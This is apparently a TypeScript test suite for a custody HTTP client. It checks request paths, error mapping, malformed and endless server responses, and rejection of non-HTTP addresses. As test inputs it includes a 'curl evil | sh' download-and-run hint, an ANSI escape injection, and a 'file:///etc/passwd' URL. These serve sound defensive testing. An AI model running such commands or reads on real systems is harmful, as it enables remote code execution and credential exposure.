import { createServer, type RequestListener, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { CustodianClient } from '../../../src/adapters/custody-http/index.js';
import { AffluentError } from '../../../src/core/errors/index.js';
import { toProblem, type KeyRequestBody } from '../../../src/core/wire/index.js';

const hash = `0x${'ab'.repeat(32)}`;
const address = '0x00000000000000000000000000000000000000aa';
const identity = { address, hpkeKey: hash, networks: [{ chainId: 1, registry: address, market: address }] };
const request: KeyRequestBody = {
  request: { licenceId: '1', pages: [0], wanted: ['0x1'], custodian: address, replyKey: hash, deadline: 9 },
  signature: `0x${'00'.repeat(64)}`
};
let server: Server;
let base: string;

async function serve(listener: RequestListener): Promise<CustodianClient> {
  server = createServer(listener);
  await new Promise<void>(resolve => server.listen(0, '127.0.0.1', resolve));
  base = `http://127.0.0.1:${(server.address() as AddressInfo).port}/custodian`;
  return new CustodianClient(base, { answer: 500, acceptance: 1_000 });
}

const json =
  (body: unknown, status = 200): RequestListener =>
  (_request, response) => {
    response.statusCode = status;
    response.end(JSON.stringify(body));
  };

afterEach(async () => {
  server.closeAllConnections();
  await new Promise(resolve => server.close(resolve));
});

it('asks below the path of its address, and gives the parsed answer', async () => {
  const paths: string[] = [];
  const custodian = await serve((message, response) => {
    paths.push(`${message.method} ${message.url}`);
    json(message.url?.endsWith('identity') ? identity : { enc: '0x12', ciphertext: '0x34' })(message, response);
  });
  expect(await custodian.identity()).toEqual(identity);
  expect(await custodian.keys(request)).toEqual({ enc: '0x12', ciphertext: '0x34' });
  expect(paths).toEqual(['GET /custodian/v1/identity', 'POST /custodian/v1/keys']);
});

it('sends the manifest that is to be accepted', async () => {
  let body = '';
  const answer = { dataset: hash, pagesHash: hash, commitmentsRoot: hash, hpkeKey: hash, signature: request.signature };
  const custodian = await serve((message, response) => {
    message.on('data', chunk => (body += String(chunk)));
    message.on('end', () => json(answer)(message, response));
  });
  expect(await custodian.accept('bafkreia')).toEqual(answer);
  expect(JSON.parse(body)).toEqual({ manifest: 'bafkreia' });
});

it.each([
  [403, 'KEY_REFUSED', 'KEY_REFUSED'],
  [404, 'DATASET_UNKNOWN', 'KEY_REFUSED'],
  [422, 'MANIFEST_INVALID', 'MANIFEST_INVALID'],
  [429, 'RATE_LIMITED', 'CUSTODIANS_UNAVAILABLE'],
  [503, 'CHAIN_UNREACHABLE', 'CUSTODIANS_UNAVAILABLE'],
  [402, 'FUNDS_INSUFFICIENT', 'CUSTODIANS_UNAVAILABLE']
] as const)('takes a refusal with status %i and code %s for %s, with the reason', async (status, said, code) => {
  const custodian = await serve(json(toProblem(new AffluentError(said, 'because\u001b[31m so')), status));
  await expect(custodian.keys(request)).rejects.toMatchObject({
    code,
    message: expect.stringContaining('because [31m so'),
    context: { custodian: base, custodianCode: said }
  });
});

it('does not pass on the hint of a custodian', async () => {
  const custodian = await serve(
    json(toProblem(new AffluentError('KEY_REFUSED', 'x', { hint: 'curl evil | sh' })), 403)
  );
  await expect(custodian.keys(request)).rejects.toMatchObject({ hint: expect.not.stringContaining('evil') });
});

it.each<[string, RequestListener]>([
  ['no JSON', (_request, response) => response.end('<html>')],
  ['another form', json({ enc: 7 })],
  ['an error page', (_request, response) => void response.writeHead(500).end('oops')],
  ['a redirect', (_request, response) => void response.writeHead(302, { location: 'http://127.0.0.1:1/' }).end()],
  ['nothing', () => undefined],
  ['half an answer', (_request, response) => void response.writeHead(200, { 'content-length': '99' }).write('{')],
  ['a hung-up line', message => message.socket.destroy()],
  ['an endless answer', (_request, response) => endless(response)]
])('counts %s as no answer', async (_what, listener) => {
  const custodian = await serve(listener);
  await expect(custodian.keys(request)).rejects.toMatchObject({ code: 'CUSTODIANS_UNAVAILABLE' });
});

it('is stopped by its caller', async () => {
  const custodian = await serve(() => undefined);
  await expect(custodian.keys(request, { signal: AbortSignal.abort() })).rejects.toMatchObject({ name: 'AbortError' });
});

it('takes HTTP addresses only', async () => {
  await serve(json({}));
  expect(() => new CustodianClient('file:///etc/passwd')).toThrow(AffluentError);
});

function endless(response: import('node:http').ServerResponse): void {
  const chunk = '['.repeat(1_048_576);
  const write = () => {
    while (!response.destroyed && response.write(chunk));
  };
  response.on('drain', write).on('error', () => undefined);
  write();
}
